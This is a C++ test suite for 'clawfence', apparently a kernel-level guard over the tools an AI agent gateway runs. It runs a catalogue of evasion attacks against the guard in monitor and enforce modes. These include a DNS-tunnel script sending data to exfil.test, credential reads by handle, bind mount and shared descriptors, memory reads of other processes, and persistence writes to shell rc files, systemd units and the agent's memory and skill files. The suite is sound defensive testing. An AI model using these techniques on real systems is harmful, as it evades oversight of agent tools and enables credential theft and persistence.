// The adversarial suite, under the shipped rules: the ways around the guards an independent
// attack review found, each run as a watched tool (below the root of `clawfence run`, which plays
// the gateway) with rules/openclaw.yaml in monitor mode and in enforce mode. Monitor mode: the
// attack gets through and an alert names what it touched. Enforce mode: the tool is killed or the
// operation refused, and nothing of the secret is read. The attacks are sub-commands of
// tests/workloads/adv_evasion.c (they print byte counts, never the bytes). Network: loopback only.
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <regex>
#include <string>
#include <vector>

#include "harness.h"

namespace clawfence::testing {
namespace {

using std::chrono::seconds;

struct Outcome {
  int status = -1;  // the root shell's exit status: the attack's (137: killed)
  std::string out;
  std::vector<v1::Event> events;
  std::string log;  // the agent's stderr
};

class AdvEvasion : public ::testing::TestWithParam<std::string> {
 protected:
  void SetUp() override {
    CF_REQUIRE_ROOT();
    bin_ = build_dir() + "/clawfence";
    workload_ = build_dir() + "/workloads/adv_evasion";
    ASSERT_EQ(access(workload_.c_str(), X_OK), 0) << workload_ << " is not built (make workloads)";
    dir_ = make_temp_dir("advev");
    ASSERT_FALSE(dir_.empty());
    home_ = dir_ + "/home";
    secret_ = home_ + "/.ssh/id_rsa";
    for (const auto& d : {home_, home_ + "/.ssh", home_ + "/.config", home_ + "/.openclaw", home_ + "/.openclaw/workspace"})
      ASSERT_EQ(mkdir(d.c_str(), 0700), 0) << d;
    write_file(secret_, "-----BEGIN FAKE KEY-----\nADVEV-CANARY\n");
    write_file(home_ + "/.bashrc", "# bashrc\n");
    // the shipped rules, in the mode the test runs, with a resolver of the test's own
    std::string text = read_file(repo_root() + "/rules/openclaw.yaml");
    text = std::regex_replace(text, std::regex("\nmode: monitor\n"), "\nmode: " + mode() + "\n");
    text = std::regex_replace(text, std::regex("\negress:\n"), "\negress:\n  dns_resolvers: [127.0.0.77]\n");
    rules_ = dir_ + "/rules.yaml";
    write_file(rules_, text);
  }
  void TearDown() override {
    if (!dir_.empty()) remove_tree(dir_);
  }

  const std::string& mode() const { return GetParam(); }
  bool enforce() const { return mode() == "enforce"; }

  // Runs `cmd` (a shell command) as a tool: the run's root shell plays the gateway, the shell
  // it starts is the exec tool's.
  Outcome attack(const std::string& cmd, const std::vector<std::string>& run_flags = {}) {
    const std::string tag = std::to_string(++runs_);
    const std::string events = dir_ + "/events-" + tag + ".jsonl", out = dir_ + "/out-" + tag, err = dir_ + "/err-" + tag;
    Outcome o;
    {
      std::vector<std::string> argv = {"env", "HOME=" + home_, bin_, "--log-level", "warn", "run", "-r", rules_, "-o", events};
      argv.insert(argv.end(), run_flags.begin(), run_flags.end());
      for (const char* a : {"--", "sh", "-c"}) argv.push_back(a);
      argv.push_back("sh -c '" + cmd + "'; exit $?");
      Child c(argv, out, err);
      o.status = c.wait(seconds(40));
    }
    o.out = read_file(out);
    o.events = read_events(events);
    o.log = read_file(err);
    return o;
  }
  std::string run_workload(const std::string& args) { return workload_ + " " + args; }

  static const v1::Event* alert(const Outcome& o, const std::string& rule) {
    for (const auto& e : o.events)
      if (e.kind() == v1::Event::ALERT && e.alert().rule_id() == rule) return &e;
    return nullptr;
  }
  // The alert of `rule` says the tool did it, and what was done about it in this mode.
  void expect_alert(const Outcome& o, const std::string& rule, const std::string& enforced) {
    const v1::Event* a = alert(o, rule);
    ASSERT_NE(a, nullptr) << rule << " did not alert\n" << describe(o.events, 80) << o.log;
    EXPECT_EQ(a->alert().role(), "tool") << a->DebugString();
    EXPECT_EQ(a->alert().outcome(), enforce() ? enforced : "alerted") << a->DebugString();
  }
  // A file rule alerted with the secret's path as its evidence.
  void expect_secret_named(const Outcome& o, const std::string& via = "") {
    for (const auto& e : o.events)
      if (e.kind() == v1::Event::ALERT && e.alert().evidence().path() == secret_) {
        if (!via.empty()) {
          EXPECT_EQ(e.alert().evidence().via(), via) << e.DebugString();
        }
        return;
      }
    ADD_FAILURE() << "no alert names " << secret_ << "\n" << describe(of_kind(o.events, v1::Event::ALERT), 40);
  }
  void expect_killed(const Outcome& o, const std::string& leaked) {
    EXPECT_EQ(o.status, 137) << o.out << o.log;
    EXPECT_EQ(o.out.find(leaked), std::string::npos) << "got through: " << o.out;
  }

  std::string bin_, workload_, dir_, home_, secret_, rules_;
  int runs_ = 0;
};

// A UDP-Lite datagram meets no sendmsg hook: the socket itself is judged (an allowlist of TCP and
// UDP at sock_create). A vsock socket (to the hypervisor) never meets sock_create: killed at
// socket()'s exit.
TEST_P(AdvEvasion, SocketsTheEgressHooksNeverSee) {
  Outcome o = attack(run_workload("udplite 127.0.0.1 9"));
  if (enforce()) {
    EXPECT_EQ(o.status, 0) << o.out << o.log;
    EXPECT_NE(o.out.find("socket errno=1\n"), std::string::npos) << o.out;
  } else {
    EXPECT_NE(o.out.find("sent=5"), std::string::npos) << o.out;
  }
  expect_alert(o, "raw-socket", "blocked");
  EXPECT_EQ(alert(o, "raw-socket")->alert().evidence().protocol(), "inet dgram udplite");

  o = attack(run_workload("vsock"));
  if (o.out.find("socket errno=") != std::string::npos && o.status != 137)
    GTEST_SKIP() << "this kernel has no AF_VSOCK sockets: " << o.out;
  if (enforce())
    expect_killed(o, "socket=ok");
  else
    EXPECT_NE(o.out.find("socket=ok"), std::string::npos) << o.out;
  expect_alert(o, "raw-socket", "killed");
}

// open_by_handle_at opens a file with no path: the record carries the path walked from the
// descriptor, and the path rules judge it.
TEST_P(AdvEvasion, OpenByHandleIsAnOpen) {
  Outcome o = attack(run_workload("by-handle " + secret_));
  if (enforce())
    expect_killed(o, "read=");
  else
    EXPECT_NE(o.out.find("read="), std::string::npos) << o.out;
  expect_secret_named(o);
  bool seen = false;
  for (const auto& e : of_kind(o.events, v1::Event::FILE))
    seen |= e.file().syscall() == "open_by_handle_at" && e.file().path() == secret_;
  EXPECT_TRUE(seen) << describe(of_kind(o.events, v1::Event::FILE), 40);
}

// A sibling sharing the descriptor table (clone CLONE_FILES, not a thread) would read the
// descriptor its sibling was killed for opening: the clone is judged at its entry and, in enforce
// mode, never makes the sibling.
TEST_P(AdvEvasion, ADescriptorTableSharedWithAnotherProcess) {
  Outcome o = attack(run_workload("clone-files " + secret_));
  if (enforce()) {
    expect_killed(o, "sibling read=");
  } else {
    EXPECT_NE(o.out.find("sibling read="), std::string::npos) << o.out;
    expect_secret_named(o);
  }
  expect_alert(o, "shared-files", "killed");
  EXPECT_NE(alert(o, "shared-files")->alert().evidence().via().find("CLONE_FILES"), std::string::npos);
}

// A bind mount of the key onto a path in the tool's scope: the mount is judged at its entry
// (killed in enforce mode), the namespace it needed is reported, and the file rules judge what
// was mounted (the mount point is all a later open would show).
TEST_P(AdvEvasion, ABindMountOfASecret) {
  const std::string target = dir_ + "/innocent.txt";
  write_file(target, "");
  Outcome o = attack(run_workload("bind-mount " + secret_ + " " + target));
  if (o.out.find("unshare errno=") != std::string::npos)
    GTEST_SKIP() << "user namespaces are not available to this process: " << o.out;
  if (enforce())
    expect_killed(o, "read=");
  else
    EXPECT_NE(o.out.find("read="), std::string::npos) << o.out;
  expect_alert(o, "tool-mount", "killed");
  expect_alert(o, "tool-namespace", "alerted");
  if (!enforce()) expect_secret_named(o, "bind mount");
}

// Another process's memory holds its environment and keys: process_vm_readv is judged at its
// entry (killed before a page is copied in enforce mode).
TEST_P(AdvEvasion, ReadingAnotherProcesssMemory) {
  Outcome o = attack(run_workload("vm-read-child"));
  if (enforce())
    expect_killed(o, "read=");
  else
    EXPECT_NE(o.out.find("read=64"), std::string::npos) << o.out;
  expect_alert(o, "process-access", "killed");
  EXPECT_NE(alert(o, "process-access")->alert().evidence().target_pid(), 0u);
}

// A tool signalling the assistant's own processes (SIGSEGV for a core dump of the gateway's
// memory, SIGKILL to take it down) or raising its limits (the core size) reaches into it:
// judged at the syscall's entry. (The run's root shell plays the gateway: the tool's $PPID.)
TEST_P(AdvEvasion, ReachingIntoTheAssistant) {
  const std::string by_pidfd =
      "python3 -c \"import os, signal, sys; signal.pidfd_send_signal(os.pidfd_open(int(sys.argv[1])), "
      "signal.SIGCONT); print(sys.argv[2])\" $PPID by-pidfd";
  // a /proc/PID directory is a pidfd too; kill(-1) aims at every process (signal 0: none is sent)
  const std::string by_proc_dir =
      "python3 -c \"import os, signal, sys; signal.pidfd_send_signal(os.open(\\\"/proc/\\\" + sys.argv[1], "
      "os.O_DIRECTORY), signal.SIGCONT); print(sys.argv[2])\" $PPID by-proc-dir";
  const std::string everyone = "python3 -c \"import os, sys; os.kill(-1, 0); print(sys.argv[1])\" everyone";
  for (const std::string& cmd : {std::string("kill -CONT $PPID && echo signalled"),
                                std::string("prlimit --pid $PPID --core=0 && echo limited"),
                                std::string("/bin/kill -s CONT -q 1 $PPID && echo queued"),  // sigqueue
                                by_pidfd, by_proc_dir, everyone}) {
    Outcome o = attack(cmd);
    const std::string done = cmd.substr(cmd.rfind(' ') + 1);
    if (enforce())
      expect_killed(o, done);
    else
      EXPECT_NE(o.out.find(done), std::string::npos) << o.out << o.log;
    expect_alert(o, "process-access", "killed");
    EXPECT_NE(alert(o, "process-access")->alert().evidence().target_pid(), 0u);
  }
}

// A listener on an address that is not loopback is a way in and out no connect meets: judged at
// listen's entry. One on loopback (a tool's dev server) is not.
TEST_P(AdvEvasion, AListenerOpenToTheNetwork) {
  const std::string py = "python3 -c \"import socket\nfor a in (\\\"127.0.0.1\\\", \\\"0.0.0.0\\\"):\n"
                         "  s = socket.socket(); s.bind((a, 0)); s.listen(); print(a, \\\"listening\\\", flush=True)\"";
  Outcome o = attack(py);
  EXPECT_NE(o.out.find("127.0.0.1 listening"), std::string::npos) << o.out << o.log;
  if (enforce())
    expect_killed(o, "0.0.0.0 listening");
  else
    EXPECT_NE(o.out.find("0.0.0.0 listening"), std::string::npos) << o.out;
  expect_alert(o, "tool-listen", "killed");
  EXPECT_EQ(alert(o, "tool-listen")->alert().evidence().address(), "0.0.0.0");
}

// 32-bit syscalls (int $0x80) number their syscalls from another table: a tool making them is
// killed at the first (enforce), reported, and its opens decoded with their own table (monitor).
TEST_P(AdvEvasion, CompatSyscalls) {
  // Does this kernel run int $0x80 at all? (Some VMs' kernels fault it.)
  pid_t pid = fork();
  if (pid == 0) {
    int r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(20) : "memory", "r8", "r9", "r10", "r11");
    _exit(r > 0 ? 0 : 1);
  }
  int st = 0;
  waitpid(pid, &st, 0);
  if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
    GTEST_SKIP() << "this kernel does not run 32-bit syscalls (int $0x80 "
                 << (WIFSIGNALED(st) ? "faults" : "fails") << "): the compat guard cannot be exercised here";
  Outcome o = attack(run_workload("compat-open " + secret_));
  if (enforce()) {
    expect_killed(o, "read=");
  } else {
    EXPECT_NE(o.out.find("read="), std::string::npos) << o.out;
    expect_secret_named(o);
  }
  expect_alert(o, "compat-syscall", "killed");
}

// DNS goes to the configured resolvers only: port 53 anywhere else is an unapproved destination.
TEST_P(AdvEvasion, PortFiftyThreeOnlyToTheResolvers) {
  const std::string py =
      "python3 -c \"import socket\nfor a in (\\\"127.0.0.77\\\", \\\"127.0.0.2\\\"):\n"
      "  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
      "  try:\n    s.sendto(b\\\"x\\\" * 40, (a, 53)); print(a, \\\"sent\\\")\n"
      "  except OSError as e: print(a, e.errno)\"";
  Outcome o = attack(py);
  EXPECT_EQ(o.status, 0) << o.out << o.log;
  EXPECT_NE(o.out.find("127.0.0.77 sent"), std::string::npos) << o.out;
  EXPECT_NE(o.out.find(enforce() ? "127.0.0.2 1" : "127.0.0.2 sent"), std::string::npos) << o.out;
  expect_alert(o, "egress-unapproved", "blocked");
  EXPECT_EQ(alert(o, "egress-unapproved")->alert().evidence().address(), "127.0.0.2");
}

// Data sent in the names asked of the (approved) resolver, which forwards them to the zone's
// server: a dns-tunnel alert names the domain.
TEST_P(AdvEvasion, DataInDnsNames) {
  if (access("/usr/sbin/dnsmasq", X_OK) != 0) GTEST_SKIP() << "dnsmasq is not installed: skipped";
  Child dns(dnsmasq_argv("127.0.0.77", {"--address=/exfil.test/127.0.0.99"}), dir_ + "/dnsmasq.out", dir_ + "/dnsmasq.err");
  const std::string script = dir_ + "/tunnel.py";
  write_file(script,
             "import socket, struct, time\n"
             "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
             "got = 0\n"
             "for i in range(40):\n"
             "    name = ('%02d' % i) + '4b45592d434f4e54454e54' + '.x.exfil.test'\n"
             "    q = struct.pack('>HHHHHH', i, 0x0100, 1, 0, 0, 0)\n"
             "    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)\n"
             "    for attempt in range(20):\n"
             "        try:\n"
             "            s.sendto(q, ('127.0.0.77', 53)); s.recv(512); got += 1; break\n"
             "        except OSError: time.sleep(0.05)\n"
             "print('answers', got)\n");
  Outcome o = attack("python3 " + script);
  EXPECT_NE(o.out.find("answers 40"), std::string::npos) << o.out << read_file(dir_ + "/dnsmasq.err");
  const v1::Event* a = alert(o, "dns-tunnel");
  ASSERT_NE(a, nullptr) << describe(of_kind(o.events, v1::Event::ALERT), 40);
  EXPECT_EQ(a->alert().role(), "tool");
  EXPECT_NE(a->alert().evidence().via().find("distinct names under exfil.test"), std::string::npos)
      << a->DebugString();
}

// More processes than the tracked map holds: the ones it cannot take would run unwatched. Never
// silent: a GAP record and a tracking-lost alert; fail-closed in enforce mode, the parent and the
// child are killed.
TEST_P(AdvEvasion, MoreProcessesThanTheTrackedMapHolds) {
  if (enforce()) {
    std::string text = read_file(rules_);
    text = std::regex_replace(text, std::regex("\nfail_closed: false\n"), "\nfail_closed: true\n");
    write_file(rules_, text);
  }
  Outcome o = attack("for i in 1 2 3 4 5 6 7 8; do sleep 0.3 & done; wait; echo all-ran", {"--max-tracked", "6"});
  bool gap = false;
  for (const auto& e : of_kind(o.events, v1::Event::GAP)) gap |= e.gap().where() == "tracked_map_full";
  EXPECT_TRUE(gap) << describe(o.events, 60);
  const v1::Event* a = alert(o, "tracking-lost");
  ASSERT_NE(a, nullptr) << describe(o.events, 60) << o.log;
  EXPECT_EQ(a->alert().severity(), "critical");
  EXPECT_NE(a->alert().evidence().target_pid(), 0u);
  if (enforce()) {
    EXPECT_EQ(a->alert().outcome(), "killed");
    EXPECT_EQ(o.out.find("all-ran"), std::string::npos) << o.out;
  } else {
    EXPECT_EQ(a->alert().outcome(), "alerted");
    EXPECT_NE(o.out.find("all-ran"), std::string::npos) << o.out;
  }
}

// A rename of a directory above a protected path moves the files to names no rule has. The
// directories the rules protect are known to the kernel by inode: a path walk through one names
// what is below it by the protected path, so the read under the new name is the rule's (killed
// in enforce mode). The rename itself is alerted from user space, naming where it went.
TEST_P(AdvEvasion, RenamingADirectoryAboveASecret) {
  ASSERT_EQ(system(("mkdir -p '" + home_ + "/.openclaw/credentials' '" + home_ + "/.cache'").c_str()), 0);
  write_file(home_ + "/.openclaw/credentials/telegram.json", "{\"token\": \"RENAME-CANARY\"}\n");
  Outcome o = attack("sleep 0.3; mv ~/.openclaw ~/.cache/oc && wc -c < ~/.cache/oc/credentials/telegram.json");
  if (enforce()) {
    expect_killed(o, "27");
  } else {
    EXPECT_NE(o.out.find("27"), std::string::npos) << o.out << o.log;
  }
  bool named = false, read = false;
  for (const auto& e : of_kind(o.events, v1::Event::ALERT)) {
    if (e.alert().rule_id() != "openclaw-credentials") continue;
    if (e.alert().evidence().path() == home_ + "/.openclaw") {
      named = true;
      EXPECT_EQ(e.alert().evidence().new_path(), home_ + "/.cache/oc");
      EXPECT_EQ(e.alert().evidence().via(), "rename of a directory holding protected files");
    }
  }
  // The read's record names the protected path (its alert folds into the rename's: one tool run,
  // one rule), killed in enforce mode.
  for (const auto& e : of_kind(o.events, v1::Event::FILE))
    if (e.file().op() == v1::FileOp::OPEN && e.file().path() == home_ + "/.openclaw/credentials/telegram.json") {
      read = true;
      EXPECT_EQ(e.has_enforcement() ? e.enforcement().verdict() : "", enforce() ? "killed" : "") << e.DebugString();
    }
  EXPECT_TRUE(named) << describe(of_kind(o.events, v1::Event::ALERT), 40);
  EXPECT_TRUE(read) << "the read under the new name was not named as the protected file\n"
                    << describe(of_kind(o.events, v1::Event::FILE), 40);
}

// The files a rule protects that exist when the rules load are known by inode too: moved out of
// the protected directory, or given a second name by a hard link (judged at the link only where
// kprobes attach), a read is still the protected file's.
TEST_P(AdvEvasion, AProtectedFileMovedOrLinkedOut) {
  ASSERT_EQ(system(("mkdir -p '" + home_ + "/.openclaw/credentials'").c_str()), 0);
  const std::string cred = home_ + "/.openclaw/credentials/telegram.json";
  write_file(cred, "{\"token\": \"MOVED-CANARY\"}\n");
  struct Case {
    std::string cmd, path;
  } cases[] = {
      {"sleep 0.3; mv ~/.openclaw/credentials/telegram.json ~/.openclaw/workspace/x.json && "
       "wc -c < ~/.openclaw/workspace/x.json",
       cred},
      {"sleep 0.3; ln ~/.ssh/id_rsa ~/.openclaw/workspace/notes.txt && wc -c < ~/.openclaw/workspace/notes.txt", secret_},
  };
  for (const auto& c : cases) {
    Outcome o = attack(c.cmd);
    if (enforce()) {
      EXPECT_EQ(o.status, 137) << c.cmd << "\n" << o.out << o.log;
    } else {
      EXPECT_EQ(o.status, 0) << c.cmd << "\n" << o.out << o.log;
    }
    // the read's record (an open), not the move's or the link's, names the protected file and
    // carries the kill (its alert may fold into the move's: one tool run, one rule)
    bool judged = false;
    for (const auto& e : of_kind(o.events, v1::Event::FILE))
      judged |= e.file().op() == v1::FileOp::OPEN && e.file().path() == c.path &&
                (e.has_enforcement() ? e.enforcement().verdict() : "") == (enforce() ? "killed" : "");
    EXPECT_TRUE(judged) << c.cmd << "\n" << describe(of_kind(o.events, v1::Event::FILE), 40);
    bool alerted = false;
    for (const auto& e : of_kind(o.events, v1::Event::ALERT)) alerted |= e.alert().evidence().path() == c.path;
    EXPECT_TRUE(alerted) << c.cmd << "\n" << describe(of_kind(o.events, v1::Event::ALERT), 40);
  }
}

// A name is no role: a link named `openclaw` to cat, and a tool renaming itself, stay tools.
TEST_P(AdvEvasion, ANameIsNoRole) {
  const std::string link = dir_ + "/openclaw";
  ASSERT_EQ(symlink("/bin/cat", link.c_str()), 0);
  Outcome o = attack(link + " " + secret_ + " | wc -c");
  if (enforce()) {
    EXPECT_EQ(o.out, "0\n") << o.out;
  } else {
    EXPECT_NE(o.out, "0\n") << o.out;
  }
  // the first rule the kernel matched kills it; every file rule naming the key alerts
  bool judged = false;
  for (const auto& e : of_kind(o.events, v1::Event::ALERT))
    if (e.alert().evidence().path() == secret_) {
      EXPECT_EQ(e.alert().role(), "tool") << e.DebugString();
      judged |= e.alert().outcome() == (enforce() ? "killed" : "alerted");
    }
  EXPECT_TRUE(judged) << describe(of_kind(o.events, v1::Event::ALERT), 40);
}

// Persistence: what runs later (a shell's rc file, a systemd user unit, an autostart entry,
// OpenClaw's cron jobs and configuration, the agent's memory) written by a tool.
TEST_P(AdvEvasion, PersistenceWrites) {
  struct Case {
    std::string path, how;
  } cases[] = {
      {home_ + "/.bashrc", "append"},
      {home_ + "/.config/systemd/user/evil.service", "create"},
      {home_ + "/.config/autostart/evil.desktop", "create"},
      {home_ + "/.openclaw/cron/jobs.json", "create"},
      {home_ + "/.openclaw/openclaw.json", "create"},
      {home_ + "/.openclaw/workspace/SOUL.md", "create"},
      {home_ + "/.openclaw/workspace/MEMORY.md", "create"},
      {home_ + "/.openclaw/skills/evil/SKILL.md", "create"},
  };
  for (const auto& c : cases) {
    const std::string d = c.path.substr(0, c.path.rfind('/'));
    ASSERT_EQ(system(("mkdir -p '" + d + "'").c_str()), 0);
    // `~/` kernel patterns cover /etc/passwd's homes from the start, and a home only a watched
    // process has (this test's) from the moment the agent reads its first exec: a moment later
    Outcome o = attack("sleep 0.3; echo PERSIST-MARK >> " + c.path);
    const std::string content = read_file(c.path);
    if (enforce()) {
      EXPECT_EQ(content.find("PERSIST-MARK"), std::string::npos) << c.path << " was written";
    } else {
      EXPECT_NE(content.find("PERSIST-MARK"), std::string::npos) << c.path;
    }
    // the persistence rule names it; in enforce mode the first rule the kernel matched killed
    // the writer (openclaw.json is also the credentials rule's)
    bool named = false, judged = false;
    for (const auto& e : of_kind(o.events, v1::Event::ALERT)) {
      if (e.alert().evidence().path() != c.path) continue;
      named |= e.alert().rule_id() == "persistence";
      judged |= e.alert().outcome() == (enforce() ? "killed" : "alerted");
    }
    EXPECT_TRUE(named && judged) << c.path << "\n" << describe(of_kind(o.events, v1::Event::ALERT), 20);
  }
}

// A host daemon's unix socket (Docker's API starts a privileged container with the host's disk;
// D-Bus and systemd's private socket run units outside the tree): judged on the socket file the
// peer is bound to, so a symlink and a relative name reach the same rule. A stand-in daemon of
// the test's (outside the watched tree) listens at ~/.docker/run/docker.sock; a socket no rule
// names is connected to as before.
TEST_P(AdvEvasion, AHostDaemonsUnixSocket) {
  ASSERT_EQ(system(("mkdir -p '" + home_ + "/.docker/run' '" + dir_ + "/via'").c_str()), 0);
  const std::string sock = home_ + "/.docker/run/docker.sock", plain = dir_ + "/plain.sock";
  ASSERT_EQ(symlink(sock.c_str(), (dir_ + "/via/d.sock").c_str()), 0);
  const std::string daemon_py =
      "import os, socket, sys, threading\n"
      "def serve(path):\n"
      "  s = socket.socket(socket.AF_UNIX); s.bind(path); s.listen(8)\n"
      "  while True:\n"
      "    c, _ = s.accept(); n = len(c.recv(64)); print(path, 'got', n, flush=True)\n"
      "    try: c.sendall(b'HTTP/1.1 200 OK')\n"
      "    except OSError: pass\n"
      "    c.close()\n"
      "for p in sys.argv[1:]: threading.Thread(target=serve, args=(p,), daemon=True).start()\n"
      "print('ready', flush=True); threading.Event().wait(120)\n";
  write_file(dir_ + "/daemon.py", daemon_py);
  Child daemon({"python3", dir_ + "/daemon.py", sock, plain}, dir_ + "/daemon.out");
  for (int i = 0; i < 100 && read_file(dir_ + "/daemon.out").find("ready") == std::string::npos; ++i) usleep(50 * 1000);
  ASSERT_NE(read_file(dir_ + "/daemon.out").find("ready"), std::string::npos) << "the stand-in daemon did not start";
  const std::string client =
      "python3 -c \"import socket, sys\nfor p in sys.argv[1:]:\n"
      "  s = socket.socket(socket.AF_UNIX); s.connect(p); s.sendall(b\\\"GET /info\\\"); "
      "print(p, s.recv(64).decode(), flush=True)\"";
  // first a socket no rule names, then the daemon's through a symlink, by a relative name
  Outcome o = attack("sleep 0.3; cd " + dir_ + " && " + client + " plain.sock via/d.sock");
  EXPECT_NE(o.out.find("plain.sock HTTP/1.1 200 OK"), std::string::npos) << o.out << o.log;
  const std::string heard = read_file(dir_ + "/daemon.out");
  if (enforce()) {
    expect_killed(o, "via/d.sock HTTP");
    EXPECT_EQ(heard.find(sock + " got 9"), std::string::npos) << "the request reached the daemon: " << heard;
  } else {
    EXPECT_NE(o.out.find("via/d.sock HTTP/1.1 200 OK"), std::string::npos) << o.out << o.log;
    EXPECT_NE(heard.find(sock + " got 9"), std::string::npos) << heard;
  }
  expect_alert(o, "host-daemons", "killed");
  const auto& ev = alert(o, "host-daemons")->alert().evidence();
  EXPECT_EQ(ev.path(), sock);
  EXPECT_EQ(ev.via(), "unix socket");
  for (const auto& e : of_kind(o.events, v1::Event::ALERT))
    EXPECT_EQ(e.alert().evidence().path().find("plain.sock"), std::string::npos) << e.DebugString();

  // The same connect submitted through io_uring meets no connect exit: the submission is judged
  // (a unix connect through a ring is the io-uring rule's), before the request is written.
  o = attack("sleep 0.3; " + build_dir() + "/workloads/uring_connect unix " + dir_ + "/via/d.sock");
  if (o.out.find("connect=none") != std::string::npos) {
    daemon.signal(SIGKILL);
    GTEST_SKIP() << "io_uring is not available here: " << o.out;
  }
  if (enforce())
    expect_killed(o, "sent=9");
  else
    EXPECT_NE(o.out.find("sent=9"), std::string::npos) << o.out << o.log;
  expect_alert(o, "io-uring", "killed");
  EXPECT_EQ(alert(o, "io-uring")->alert().evidence().via(), "io_uring connect (unix socket)");
  // Linked after another request, its descriptor is looked up only when it is issued (it could
  // name another socket by then): judged at submission whatever it names now.
  o = attack("sleep 0.3; " + build_dir() + "/workloads/uring_connect unix " + dir_ + "/via/d.sock linked");
  if (enforce())
    expect_killed(o, "sent=9");
  else
    EXPECT_NE(o.out.find("sent=9"), std::string::npos) << o.out << o.log;
  expect_alert(o, "io-uring", "killed");
  daemon.signal(SIGKILL);
}

INSTANTIATE_TEST_SUITE_P(Modes, AdvEvasion, ::testing::Values("monitor", "enforce"),
                         [](const ::testing::TestParamInfo<std::string>& i) { return i.param; });

}  // namespace
}  // namespace clawfence::testing
